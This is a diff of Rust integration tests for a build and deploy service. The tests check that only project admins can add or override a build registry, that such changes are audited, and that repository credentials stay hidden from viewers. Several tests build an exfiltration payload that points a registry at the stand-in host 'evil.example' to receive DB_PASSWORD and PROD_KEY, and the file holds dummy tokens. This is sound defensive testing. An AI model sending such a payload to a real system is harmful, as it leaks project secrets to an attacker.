@@ -175,6 +175,9 @@ fn request_for(w: &World, path: &str, n: usize, token: Option<&str>) -> Request<
                 "members/remove" => json!({ "project": p, "username": "target-user" }),
                 "secrets/set" => json!({ "project": p, "name": "API_KEY", "value": "s3cr3t-value-1234" }),
                 "secrets/delete" => json!({ "project": p, "name": "API_KEY" }),
+                "registries/list" => json!({ "project": p }),
+                "registries/add" => json!({ "project": p, "registry": { "host": format!("reg-{n}.example"), "username_secret": "REG_USER", "token_secret": "REG_TOKEN" } }),
+                "registries/remove" => json!({ "project": p, "host": format!("reg-{}.example", n - 1) }),
                 "audit/list" => json!({ "query": {} }),
                 "base-images/list" => json!({}),
                 "base-images/add" => json!({ "input": { "pattern": format!("docker.io/library/img{n}") } }),
@@ -447,4 +450,98 @@ async fn no_response_page_or_log_line_contains_a_secret_value(pool: PgPool) {
     assert!(!logs.contains(secret), "a log line contains the secret");
     assert!(logs.contains("/setup"), "the setup page request was logged");
     assert!(!logs.contains(setup_token), "the access log contains a query string");
+}
+
+fn post_as(w: &World, caller: Caller, path: &str, body: Value) -> Request<Body> {
+    let token = w.tokens.iter().find(|(c, _)| *c == caller).and_then(|(_, t)| t.clone()).unwrap();
+    Request::builder()
+        .method("POST")
+        .uri(format!("/api/{path}"))
+        .header("content-type", "application/json")
+        .header("authorization", format!("Bearer {token}"))
+        .body(Body::from(body.to_string()))
+        .unwrap()
+}
+
+async fn count(w: &World, table: &str) -> i64 {
+    sqlx::query_scalar(&format!("SELECT count(*) FROM {table}")).fetch_one(w.store.pool()).await.unwrap()
+}
+
+#[sqlx::test(migrator = "slipway_engine::store::MIGRATOR")]
+async fn a_developer_cannot_override_a_builds_registry_to_send_project_secrets_elsewhere(pool: PgPool) {
+    let w = world(pool).await;
+    let specs = count(&w, "build_specs").await;
+    let exfiltrate = json!({ "input": {
+        "project": w.project,
+        "registry": { "host": "evil.example", "auth": { "username_secret": "DB_PASSWORD", "token_secret": "PROD_KEY" } },
+        "run": true,
+    }});
+    let (status, body) = send(&w.router, post_as(&w, Caller::Member(Role::Developer), "builds/create", exfiltrate.clone())).await;
+    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
+    assert!(body.contains("only project admins may override the registry"), "{body}");
+    assert_eq!(count(&w, "build_specs").await, specs, "no build was recorded");
+    // An admin may override, but only with a listed registry: 422 naming the field.
+    let (status, body) = send(&w.router, post_as(&w, Caller::Member(Role::Admin), "builds/create", exfiltrate)).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
+    assert!(body.contains("\"field\":\"registry\""), "{body}");
+    assert_eq!(count(&w, "build_specs").await, specs);
+}
+
+#[sqlx::test(migrator = "slipway_engine::store::MIGRATOR")]
+async fn a_developer_cannot_list_a_registry_to_receive_project_secrets(pool: PgPool) {
+    let w = world(pool).await;
+    let add = json!({ "project": w.project, "registry": { "host": "evil.example", "username_secret": "DB_PASSWORD", "token_secret": "PROD_KEY" } });
+    for caller in [Caller::Member(Role::Developer), Caller::Member(Role::Approver), Caller::Member(Role::Viewer)] {
+        let (status, body) = send(&w.router, post_as(&w, caller, "registries/add", add.clone())).await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{caller:?}: {body}");
+    }
+    let (status, body) = send(&w.router, post_as(&w, Caller::OtherProjectAdmin, "registries/add", add.clone())).await;
+    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
+    assert_eq!(count(&w, "project_registries").await, 0, "nothing was listed");
+    // The project's admin can, and it is audited.
+    let (status, body) = send(&w.router, post_as(&w, Caller::Member(Role::Admin), "registries/add", add)).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let audited: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_events WHERE action = 'registry.listed'").fetch_one(w.store.pool()).await.unwrap();
+    assert_eq!(audited, 1);
+    let (status, _) = send(&w.router, post_as(&w, Caller::Member(Role::Developer), "registries/remove", json!({ "project": w.project, "host": "evil.example" }))).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert_eq!(count(&w, "project_registries").await, 1, "a developer cannot take it off either");
+}
+
+#[sqlx::test(migrator = "slipway_engine::store::MIGRATOR")]
+async fn a_viewer_never_sees_the_credentials_in_a_projects_repository_url(pool: PgPool) {
+    let w = world(pool).await;
+    let root = w.store.find_user_by_username("root").await.unwrap().unwrap();
+    let root = Principal { user: root, token_id: None, token_project: None, client: Default::default() };
+    let token = "ghp_R3poT0ken9f8e7d";
+    let p = w
+        .store
+        .create_project(&NewProject { name: "gamma".into(), repo_url: format!("https://deploy:{token}@git.example/gamma.git"), ..Default::default() }, None)
+        .await
+        .unwrap();
+    w.store.set_member(&p.id, "member-viewer", Role::Viewer, &root).await.unwrap();
+    w.store.set_member(&p.id, "member-admin", Role::Admin, &root).await.unwrap();
+    let mut bodies = Vec::new();
+    for (caller, path, body) in [
+        (Caller::Member(Role::Viewer), "projects/list", json!({})),
+        (Caller::Member(Role::Viewer), "projects/show", json!({ "project": "gamma" })),
+        (Caller::Member(Role::Admin), "projects/settings", json!({ "project": "gamma", "auto_release": true })),
+    ] {
+        let (status, body) = send(&w.router, post_as(&w, caller, path, body)).await;
+        assert_eq!(status, StatusCode::OK, "{path}: {body}");
+        assert!(body.contains("git.example/gamma.git"), "{path} shows the repository: {body}");
+        bodies.push(body);
+    }
+    let viewer = w.tokens.iter().find(|(c, _)| *c == Caller::Member(Role::Viewer)).and_then(|(_, t)| t.clone()).unwrap();
+    for page in ["/projects", "/projects/gamma"] {
+        let req = Request::builder().uri(page).header("authorization", format!("Bearer {viewer}")).body(Body::empty()).unwrap();
+        let (status, html) = send(&w.router, req).await;
+        assert_eq!(status, StatusCode::OK, "{page}");
+        bodies.push(html);
+    }
+    for b in &bodies {
+        assert!(!b.contains(token) && !b.contains("deploy:"), "a response shows the repository credentials: {b}");
+    }
+    // The stored URL is untouched: git still gets its credentials.
+    assert!(w.store.get_project(&p.id).await.unwrap().repo_url.contains(token));
 }
